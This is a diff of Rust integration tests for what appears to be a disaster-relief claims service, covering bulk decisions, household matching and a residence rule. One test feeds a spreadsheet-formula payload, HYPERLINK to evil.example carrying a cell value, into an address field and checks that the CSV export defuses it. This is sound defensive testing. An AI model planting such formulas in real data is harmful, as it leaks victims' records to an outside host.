@@ -24,9 +24,14 @@ async fn bulk_decides_by_the_rules_and_isolates_failures() {
     let mut unregistered_body = distinct_household(event_id, 2);
     unregistered_body["members"][1]["registered_at_property"] = json!(false);
     let unregistered = inspected(&app, &officer, &unregistered_body, "А-2", "loss_confirmed").await;
-    let mut partial_body = distinct_household(event_id, 3);
-    partial_body["loss_extent"] = json!("partial");
-    let partial = inspected(&app, &officer, &partial_body, "А-3", "loss_confirmed").await;
+    // Declared full, found partial on site.
+    let partial = crate::review::inspected_with(
+        &app,
+        &officer,
+        &distinct_household(event_id, 3),
+        &crate::review::finding("А-3", "loss_confirmed", Some("partial")),
+    )
+    .await;
     let not_confirmed = inspected(
         &app,
         &officer,
@@ -44,6 +49,20 @@ async fn bulk_decides_by_the_rules_and_isolates_failures() {
         "loss_confirmed",
     )
     .await;
+    // The officer confirms the matches between the two: one household.
+    let confirmed = app
+        .resolve_matches(
+            &officer,
+            event_id,
+            twice["id"].as_i64().unwrap(),
+            "confirmed",
+        )
+        .await;
+    assert_eq!(
+        confirmed.len(),
+        3,
+        "both members match, and so does the plot"
+    );
     let waiting = app
         .file(&distinct_household(event_id, 6), &officer)
         .await
@@ -240,7 +259,7 @@ async fn a_formula_typed_into_an_address_reaches_the_victims_csv_as_text() {
     let starts = ['=', '+', '-', '@'];
     for (n, start) in (1..).zip(starts) {
         let mut body = distinct_household(event_id, n);
-        let address = format!("{start}HYPERLINK(\"http://evil.example/?\"&A1;\"Ленина 1\")");
+        let address = format!("{start}HYPERLINK(\"http://evil.example/?\"&A1;\"Ленина {n}\")");
         body["property_address"] = json!(address);
         body["members"] = json!([body["members"][0].clone()]);
         let application =
@@ -274,4 +293,75 @@ async fn a_formula_typed_into_an_address_reaches_the_victims_csv_as_text() {
         assert!(address.starts_with('\''), "defused: {address:?}");
         assert!(address.contains("HYPERLINK"), "kept whole: {address:?}");
     }
+}
+
+/// `require_residence` (on by default) holds in both paths alike: a member
+/// who does not live at the property cannot be recognised singly (422 with
+/// the rule's name) and is refused as `not_living_at_property` in bulk;
+/// with the rule off, they are recognised.
+#[actix_web::test]
+async fn require_residence_holds_in_the_single_and_the_bulk_decision() {
+    let app = spawn_app().await;
+    let (admin, event_id) = app.open_event("BLG2020").await;
+    let (_, officer) = app.user_with_token("officer", Role::Officer).await;
+    let away = |n: u32| {
+        let mut body = distinct_household(event_id, n);
+        body["members"][1]["lives_at_property"] = json!(false);
+        body
+    };
+    let single = inspected(&app, &officer, &away(1), "А-1", "loss_confirmed").await;
+    let bulk = inspected(&app, &officer, &away(2), "А-2", "loss_confirmed").await;
+    let url = format!("/api/v1/applications/{}/decision", single["id"]);
+    let refused = app
+        .post(
+            &url,
+            &all_members(&single, "recognized", None),
+            Some(&officer),
+        )
+        .await;
+    refused.assert_error(422, "validation_failed");
+    assert_eq!(
+        refused.body["error"]["fields"]["members"]["1"][0]["code"],
+        "require_residence"
+    );
+    let answer = app
+        .post(
+            &format!("/api/v1/events/{event_id}/decisions/bulk"),
+            &json!({"protocol_number": "П-3", "decided_on": day(0), "application_ids": [bulk["id"]]}),
+            Some(&officer),
+        )
+        .await;
+    assert_eq!(
+        answer.body["results"][0]["outcome"], "partially_approved",
+        "{}",
+        answer.body
+    );
+    let view = app
+        .get(
+            &format!("/api/v1/applications/{}", bulk["id"]),
+            Some(&officer),
+        )
+        .await;
+    assert_eq!(
+        view.body["members"][1]["decision"]["reason"],
+        "not_living_at_property"
+    );
+
+    let relaxed = app
+        .patch(
+            &format!("/api/v1/events/{event_id}"),
+            &json!({"require_residence": false}),
+            Some(&admin),
+        )
+        .await;
+    assert_eq!(relaxed.body["require_residence"], false, "{}", relaxed.body);
+    let decided = app
+        .post(
+            &url,
+            &all_members(&single, "recognized", None),
+            Some(&officer),
+        )
+        .await;
+    assert_eq!(decided.status, StatusCode::OK, "{}", decided.body);
+    assert_eq!(decided.body["outcome"], "approved");
 }
